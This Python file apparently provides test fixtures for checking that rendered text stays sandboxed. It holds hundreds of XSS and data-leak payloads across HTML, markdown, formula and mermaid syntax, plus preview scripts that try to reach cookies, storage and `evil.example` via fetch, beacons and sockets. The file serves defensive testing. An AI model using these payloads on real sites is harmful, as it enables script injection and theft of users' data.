"""Texts that try to run, to fetch, or to mislead: they call `ran()` or reach for `evil.example`."""

_TAGS = (
    "<script>ran()</script>",
    "<ScRiPt>ran()</sCrIpT>",
    "<script src=https://evil.example/a.js></script>",
    "<img src=x onerror=ran()>",
    '<img src=x onerror="ran()">',
    "<IMG SRC=x ONERROR=ran()>",
    "<img/src=x/onerror=ran()>",
    "<img src=https://evil.example/leak?secret=1>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:ran()><text x=20 y=20>press</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x onerror=ran()&gt;">',
    "<math href=javascript:ran()>press</math>",
    "<iframe src=javascript:ran()></iframe>",
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    "<iframe src=https://evil.example/></iframe>",
    "<object data=javascript:ran()></object>",
    "<embed src=javascript:ran()>",
    "<body onload=ran()>",
    "<details open ontoggle=ran()>x</details>",
    "<video><source onerror=ran()></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<input autofocus onfocus=ran()>",
    "<select autofocus onfocus=ran()>",
    "<form action=https://evil.example/><button>press</button></form>",
    "<a href=javascript:ran()>press</a>",
    '<a href="java\tscript:ran()">press</a>',
    "<a href=https://evil.example/ ping=https://evil.example/p>press</a>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>*{background:url(https://evil.example/b.png)}</style>",
    '<p style="background:url(https://evil.example/c.png)">x</p>',
    '<div onmouseover=ran() style="position:fixed;inset:0">x</div>',
    "<template><script>ran()</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=ran()>">',
    '<!--<img src="--><img src=x onerror=ran()>">',
    "<![CDATA[<script>ran()</script>]]>",
    "<x onclick=ran() tabindex=1 autofocus onfocus=ran()>press</x>",
    "</article></main><script>ran()</script>",
    "<a id=person name=person>clobber</a><form id=page><input name=children></form>",
    "<button formaction=javascript:ran()>press</button>",
    "<marquee onstart=ran()>x</marquee>",
    "<portal src=https://evil.example/></portal>",
    '"><script>ran()</script>',
    "'-ran()-'",
    "{{constructor.constructor('ran()')()}}",
    "${ran()}",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#x3C;img src=x onerror=ran()&#x3E;",
    "\ufeff<script>ran()</script>",
)
_MARKDOWN = (
    "[press](javascript:ran())",
    "[press](JaVaScRiPt:ran())",
    "[press](java&#x73;cript:ran())",
    "[press](&#106;avascript:ran())",
    "[press](\x01javascript:ran())",
    "[press](vbscript:ran())",
    "[press](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "[press](file:///etc/passwd)",
    "[press](blob:https://evil.example/1)",
    "[press](/accounts/logout/)",
    "[press](//evil.example/)",
    "![x](https://evil.example/leak.png?q=secret)",
    '![x](https://evil.example/leak.png?q=secret "title" onerror=ran())',
    '![x" onerror="ran()](https://evil.example/a.png)',
    "![x](javascript:ran())",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cmFuKCk+)",
    "[![x](https://evil.example/in.png)](javascript:ran())",
    "![ref][leak]\n\n[leak]: https://evil.example/ref.png",
    "[press][bad]\n\n[bad]: javascript:ran()",
    "<https://evil.example/auto>",
    "<javascript:ran()>",
    '[a](https://evil.example/" onmouseover="ran())',
    "[a](<https://evil.example/ onmouseover=ran()>)",
    "| <img src=x onerror=ran()> |\n|---|\n| ![x](https://evil.example/t.png) |",
    "# <svg onload=ran()>",
    "> <script>ran()</script>",
    "- <iframe src=javascript:ran()>",
    "`<script>ran()</script>`",
    "<div>\n\n![x](https://evil.example/d.png)\n\n</div>",
)
# These leave something open, so they stand last wherever texts are joined.
_OPEN = (
    "```html\n<script>ran()</script>\n<img src=x onerror=ran()>\n```",
    '```" onmouseover="ran()\n</code></pre><script>ran()</script>',
)

# Formulas and diagrams are small languages, each with its own ways out.
_FORMULAS = (
    r"$\href{javascript:ran()}{press}$",
    r"$\url{javascript:ran()}$",
    r"$$\href{https://evil.example/f}{press}$$",
    r"$\includegraphics{https://evil.example/f.png}$",
    r"$\htmlStyle{background:url(https://evil.example/g.png)}{x}$",
    r"$\htmlClass{modal}{x}$",
    r"$\htmlId{page}{x}$",
    r"$\htmlData{onclick=ran()}{x}$",
    r"$\text{<img src=x onerror=ran()>}$",
    r"$\unicode{<script>ran()</script>}$",
    r"$\def\a{\a\a}\a$",
    r"$\def\a#1{\a{#1#1}}\a{x}$",
    r"$\rule{99999em}{99999em}$",
    r"$\kern{-99999em}\text{press}$",
    r"$\color{red;background:url(https://evil.example/c)}x$",
    r"$\textcolor{url(https://evil.example/t)}{x}$",
    r"$\colorbox{expression(ran())}{x}$",
    r"$\fcolorbox{red}{blue}{x} \pmb{y}$",
    r"$\newcommand{\href}[2]{#2}\href{javascript:ran()}{x}$",
    r"\(\href{data:text/html,<script>ran()</script>}{press}\)",
    r"\[\includegraphics[alt=x]{//evil.example/i.png}\]",
    "$$\n\\href{javascript:ran()}{press}\n\n<script>ran()</script>\n$$",
    "$<script>ran()</script>$",
    "$$<svg onload=ran()>$$",
    '$"><img src=x onerror=ran()>$',
    r"$\verb|<iframe src=javascript:ran()>|$",
)
DIAGRAMS = (
    'graph TD\n  A --> B\n  click A href "javascript:ran()"',
    "graph TD\n  A --> B\n  click A call ran()",
    'graph TD\n  A["<img src=x onerror=ran()>"] --> B',
    'graph TD\n  A["<img src=https://evil.example/d.png>"] --> B["<script>ran()</script>"]',
    '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\n'
    'graph TD\n  A["<iframe src=javascript:ran()>"] --> B',
    '%%{init: {"themeCSS": "@import url(https://evil.example/t.css); '
    '* {background: url(https://evil.example/u.png)}"}}%%\ngraph TD\n  A --> B',
    "graph TD\n  A --> B\n  style A fill:url(https://evil.example/s.svg#x)",
    "sequenceDiagram\n  A->>B: </text><script>ran()</script>",
    'classDiagram\n  class A\n  link A "https://evil.example/" "<img src=x onerror=ran()>"',
    'graph TD\n  A@{ img: "https://evil.example/node.png", label: "x" }',
)
# The same few tricks in every dress: each handler on each element, each scheme in each spelling.
_HANDLERS = tuple(
    f"<{element} {handler}=ran(){rest}>press</{element}>"
    for element, rest in (
        ("img", " src=x"),
        ("svg", ""),
        ("video", " src=x autoplay"),
        ("a", " href=#"),
        ("iframe", " src=x"),
        ("input", " autofocus"),
        ("button", " type=submit"),
        ("math", ""),
        ("x-y", ' style="animation-name:pulse"'),
    )
    for handler in (
        "onload",
        "onerror",
        "ONFOCUS",
        "onclick",
        "onanimationstart",
        "onpointerover",
        "on\nerror",
        "/onerror",
    )
)
_SCHEMES = tuple(
    form.format(scheme)
    for form in ("[press]({}ran())", "<a href='{}ran()'>press</a>", "![x]({}ran())", "<{}ran()>")
    for scheme in (
        "javascript:",
        "JAVASCRIPT:",
        "\tjavascript:",
        "java&Tab;script:",
        "java%0ascript:",
        "javascript&colon;",
        "javas\u200bcript:",
        "view-source:javascript:",
        "data:text/html,",
        "vbscript:",
        "feed:javascript:",
        "filesystem:https://evil.example/",
        "about:blank#",
        "intent:",
        "ms-word:ofe|u|",
    )
)
_REACHING = tuple(
    form.format(f"https://evil.example/{index}?secret=1")
    for index, form in enumerate(
        (
            "<img srcset='{} 2x'>",
            "<picture><source srcset={}><img></picture>",
            "<video poster={}></video>",
            "<link rel=preload as=image href={}>",
            "<link rel=prefetch href={}>",
            "<link rel=dns-prefetch href={}>",
            "<link rel=modulepreload href={}>",
            "<object data={}></object>",
            "<embed src={}>",
            "<table background={}><tr><td>x</td></tr></table>",
            "<body background={}>",
            "<input type=image src={}>",
            "<track src={}>",
            "<svg><image href={} /></svg>",
            "<svg><feImage href={} /></svg>",
            "<svg><use href={}#x /></svg>",
            "<style>@font-face{{font-family:x;src:url({})}}*{{font-family:x}}</style>",
            "<p style='content:url({})'>x</p>",
            "<p style='cursor:url({}),auto'>x</p>",
            "<div style='list-style:url({})'>x</div>",
            "<frameset><frame src={}></frameset>",
            "<applet code={}></applet>",
            "<script type=module>import '{}'</script>",
            '<script type=speculationrules>{{"prefetch":[{{"urls":["{}"]}}]}}</script>',
            "<meta http-equiv=Content-Security-Policy content='report-uri {}'>",
            "![x]({})",
            "![x]( <{}> 'title')",
            "[![x]({})](#)",
            "| a |\n|---|\n| ![x]({}) |",
            "> ![x]({})",
            "1. ![x]({})",
            "**![x]({})**",
        )
    )
)
# Characters that turn text around, hide it, or end a line where none ends.
_CONTROLS = tuple(
    f"{before}{mark}{after}"
    for mark in (
        *("\u202e", "\u2066", "\u200f", "\u061c", "\u200b", "\ufeff", "\u2028", "\x85"),
        *("\x00", "\x1b[31m", "\r\n"),
    )
    for before, after in (
        ("`if admin", " { return }`"),
        ("<scr", "ipt>ran()</script>"),
        ("[press](java", "script:ran())"),
    )
)

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(*_TAGS, *_MARKDOWN, *_FORMULAS, *_HANDLERS, *_SCHEMES, *_REACHING, *_CONTROLS),
            *_OPEN,
        )
    )
)


# What no text on its way keeps as it is: nobody could say what must be shown.
_LOST_ON_THE_WAY = ("\x00", "\r", "\x1b")


def in_lots(size: int = 48) -> list[str]:
    """All that can be sent, some to a text."""
    sent = [each for each in PAYLOADS if not any(mark in each for mark in _LOST_ON_THE_WAY)]
    return ["\n\n".join(sent[at : at + size]) for at in range(0, len(sent), size)]


def diagrams() -> str:
    """An answer that draws them all."""
    return "\n\n".join(f"```mermaid\n{diagram}\n```" for diagram in DIAGRAMS)


# Documents for the preview. The first may run its script, and tries what a script can try.
_OUT = """
const tries = [
  () => { parent.ran(); }, () => { top.ran(); }, () => parent.document.title,
  () => { document.cookie = "a=1"; }, () => localStorage.length, () => sessionStorage.length,
];
let isOut = tries.filter(each => { try { each(); return true; } catch { return false; } }).length;
for (const each of [
  () => fetch("https://evil.example/fetch"), () => fetch("/api/tags"),
  () => navigator.sendBeacon("https://evil.example/beacon"),
  () => new WebSocket("wss://evil.example/socket"), () => new EventSource("https://evil.example/e"),
  () => window.open("https://evil.example/open"), () => new Worker("https://evil.example/w.js"),
  () => import("https://evil.example/module.js"),
  () => { top.location = "https://evil.example/top"; },
  () => { new Image().src = "https://evil.example/image.png"; },
]) { try { each()?.catch?.(() => 0); } catch {} }
if (window.RTCPeerConnection || origin !== "null") isOut += 1;
document.getElementById("told").textContent = isOut === 0 ? "isolated" : `out ${isOut}`;
"""
LEAVING = "<script>location = 'https://evil.example/away?secret=1'</script>"
DOCUMENTS = {
    "html": f"<p id=told>waiting</p>\n"
    "<link rel=stylesheet href=https://evil.example/a.css><img src=https://evil.example/b.png>"
    f"<form action=https://evil.example/form><button>x</button></form><script>{_OUT}</script>",
    "svg": "<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20' onload='parent.ran()'>"
    "<text id='told'>still</text><image href='https://evil.example/s.png'/>"
    "<script>parent.ran()</script>"
    "<animate attributeName='x' dur='1s' onbegin='parent.ran()'/></svg>"
    "<script>document.getElementById('told').textContent = 'ran'</script>",
    "markdown": "still ![x](https://evil.example/m.png) <script>parent.ran()</script>\n"
    "<img src=x onerror=parent.ran()>",
}
